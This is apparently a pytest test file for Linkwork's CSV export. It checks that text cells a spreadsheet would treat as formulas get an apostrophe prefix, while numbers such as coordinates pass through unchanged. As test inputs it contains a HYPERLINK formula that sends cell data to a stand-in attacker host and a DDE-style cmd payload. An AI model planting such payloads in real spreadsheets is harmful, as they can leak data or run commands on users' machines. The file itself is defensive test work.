"""No CSV Linkwork writes lets a spreadsheet run a cell as a formula (issue 22, item 4)."""

import csv
import io
import zipfile

import pytest

from linkwork import csvsafe
from linkwork.interop.exports.datapackage import export_datapackage
from tests.factories import AssetFactory, LocationFactory

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    ("text", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+SUM(A1:A9)", "'+SUM(A1:A9)"),
        ("-2+3", "'-2+3"),
        ("@cmd", "'@cmd"),
        ("\tTab", "'\tTab"),
        ("\rReturn", "'\rReturn"),
        ("Walking group", "Walking group"),
        ("-0.4291", "-0.4291"),  # a longitude is a number, not a formula
        ("+44", "+44"),
        ("-3", "-3"),
        ("", ""),
    ],
)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(text, written):
    assert csvsafe.neutralise(text) == written


def test_writers_neutralise_every_text_cell_and_leave_numbers():
    out = io.StringIO()
    csvsafe.Writer(out).writerows([["name", "n"], [FORMULA, 3]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["name", "n"], ["'" + FORMULA, "3"]]


@pytest.mark.django_db
def test_the_hsds_datapackage_never_writes_a_formula():
    hall = LocationFactory(name="@SUM(1+1)*cmd|' /C calc'!A0", latitude=53.5, longitude=-2.43)
    AssetFactory(name=FORMULA, description="+cmd", location=hall)

    with zipfile.ZipFile(io.BytesIO(export_datapackage(by=None))) as archive:
        services = list(csv.DictReader(io.StringIO(archive.read("services.csv").decode())))
        locations = list(csv.DictReader(io.StringIO(archive.read("locations.csv").decode())))

    assert [(s["name"], s["description"]) for s in services] == [("'" + FORMULA, "'+cmd")]
    assert locations[0]["name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert locations[0]["longitude"] == "-2.43"  # coordinates survive the round trip
